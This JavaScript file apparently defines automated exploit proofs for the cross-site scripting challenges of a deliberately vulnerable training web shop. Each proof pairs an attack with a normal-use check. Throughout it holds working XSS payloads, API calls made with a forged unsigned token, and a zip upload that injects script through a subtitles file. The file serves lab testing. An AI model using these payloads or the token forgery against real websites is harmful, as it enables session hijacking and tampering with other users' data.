import { forgeUnsigned } from '../attacker/forge-token.js'
import { makeZip } from '../attacker/make-zip.js'
import { iframePayload, register, registers, savesLoginAddress } from '../features/accounts.js'
import { browseAsJim, tokenOfJim } from '../features/customers.js'
import { buys, track } from '../features/orders.js'
import { renames } from '../features/profile.js'
import { searchesByAddress, searchForMarkup } from '../features/reports.js'
import { describeProduct, keepsProducts } from '../features/shelf.js'
import { giveFeedback, givesFeedback, nestedScript } from '../features/texts.js'
import { subtitles, watchesFilm } from '../features/uploads.js'
import { proof } from '../proof.js'

export const httpHeaderXssChallenge = proof({
  async attack(me) {
    const headers = { 'True-Client-IP': iframePayload }
    await me.get('/rest/saveLoginIp', { token: await tokenOfJim(me), headers })
  },
  honest: savesLoginAddress,
})

export const persistedXssUserChallenge = proof({ attack: register({ email: iframePayload }), honest: registers })

export const usernameXssChallenge = proof({
  async attack(me) {
    const jim = await browseAsJim(me)
    const imageUrl = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
    await jim.send('/profile/image/url', new URLSearchParams({ imageUrl }))
    await jim.send('/profile', new URLSearchParams({ username: '<<a|ascript>alert(`xss`)</script>' }))
    await jim.get('/profile')
  },
  honest: renames,
})

export const persistedXssFeedbackChallenge = proof({
  attack: giveFeedback({ comment: nestedScript }),
  otherAttacks: [(me) => me.put('/api/Feedbacks/1', { comment: nestedScript }, { token: forgeUnsigned({}) })],
  honest: givesFeedback,
})

export const reflectedXssChallenge = proof({ attack: track(iframePayload), honest: buys })

export const restfulXssChallenge = proof({
  attack: describeProduct(2, iframePayload),
  otherAttacks: [
    async (me) => {
      const product = { name: 'x', description: iframePayload, price: 47.11 }
      await me.post('/api/Products', product, { token: await tokenOfJim(me) })
    },
    (me) => me.put('/api/Products/2', { description: iframePayload }, { token: forgeUnsigned({}) }),
  ],
  honest: keepsProducts,
})

const player =
  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true&show_user=true&show_reposts=false&show_teaser=true"></iframe>'

export const localXssChallenge = proof({
  attack: searchForMarkup(iframePayload),
  browserStep: 'report',
  honest: searchesByAddress,
})

export const xssBonusChallenge = proof({
  attack: searchForMarkup(player),
  browserStep: 'report',
  honest: searchesByAddress,
})

export const videoXssChallenge = proof({
  async attack(me) {
    const content = 'x</script><script>alert(`xss`)</script>'
    await me.upload('photos.zip', makeZip([{ name: subtitles, content }]))
    await me.get('/promotion')
  },
  honest: watchesFilm,
})
